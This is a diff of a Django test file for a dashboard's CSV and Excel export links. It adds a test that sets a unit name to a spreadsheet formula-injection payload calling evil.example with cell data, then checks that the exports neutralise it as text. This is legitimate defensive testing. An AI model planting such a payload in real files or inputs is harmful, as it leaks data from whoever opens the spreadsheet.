@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime
 import html as html_lib
 import io
 import re
@@ -32,9 +33,10 @@ def absolute(base: str, href: str) -> str:
 def rows_of(response) -> list[list[str]]:
     content = b"".join(response.streaming_content) if response.streaming else response.content
     if response["Content-Type"].startswith("text/csv"):
-        text = content.decode("utf-8-sig")
-        dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;")
-        return list(csv.reader(io.StringIO(text), dialect))
+        text = content.decode("utf-8")
+        # "CSV (Excel)" starts with a byte-order mark and uses semicolons; RFC 4180 uses commas.
+        delimiter = ";" if text.startswith("\ufeff") else ","
+        return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))
     book = openpyxl.load_workbook(io.BytesIO(content))
     return [["" if v is None else str(v) for v in row] for row in book.active.iter_rows(values_only=True)]
 
@@ -64,20 +66,27 @@ def test_every_export_link_on_the_leaders_pages_gives_the_pages_figures(client, 
                 table = rows_of(response)
                 assert len(table) >= 1
                 for row in table[1:]:
-                    # Each exported row is a row on the page: its first cell is shown there.
-                    assert row[0] in visible, (href, row[0])
+                    # Each exported row is a row on the page: its first cell is shown there (a leading apostrophe
+                    # is the writer's neutralisation of a text that looks like a formula, e.g. "-2").
+                    assert row[0].removeprefix("'") in visible, (href, row[0])
 
 
 def test_every_export_link_on_the_directors_page_gives_the_pages_figures(client, three_units):
     w = three_units
     client.force_login(w.charlie)
     base = reverse("dashboards:director_home")
-    for code in ("", f"y{TODAY.year}", f"q{TODAY.year}-{(TODAY.month - 1) // 3 + 1}", "r" + TODAY.strftime("%Y-%m")):
+    last_month = TODAY.replace(day=1) - datetime.timedelta(days=1)
+    for code in (
+        "",
+        f"y{TODAY.year}",
+        f"q{TODAY.year}-{(TODAY.month - 1) // 3 + 1}",
+        "r" + last_month.strftime("%Y-%m"),
+    ):
         page = client.get(base + (f"?period={code}" if code else "")).content.decode()
         period = resolve_period(code or "12m", today=TODAY)
         comparison = unit_comparison(user=w.charlie, instrument=who5(), period=period)
         links = export_links(page)
-        assert len(links) == 2
+        assert len(links) == 3  # CSV (Excel), CSV (RFC 4180) and Excel
         for href in links:
             response = client.get(absolute(base, href))
             assert response.status_code == 200, href
@@ -97,3 +106,19 @@ def test_the_citizen_list_export_link_works(client, three_units):
         response = client.get(absolute(base, href))
         assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
         assert len(rows_of(response)) > 1
+
+
+def test_a_formula_like_unit_name_is_text_in_the_directors_files(client, three_units):
+    """The director's files go through the one export writer: a unit named like a formula stays text."""
+    w = three_units
+    w.unit_b.name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    w.unit_b.save()
+    client.force_login(w.charlie)
+    base = reverse("dashboards:director_home")
+    book = openpyxl.load_workbook(io.BytesIO(client.get(base + "?_export=xlsx").content))
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
+    text = client.get(base + "?_export=csv-excel").content.decode("utf-8")
+    assert text.startswith("\ufeff") and ";" in text.splitlines()[0]
+    assert "'=HYPERLINK" in text
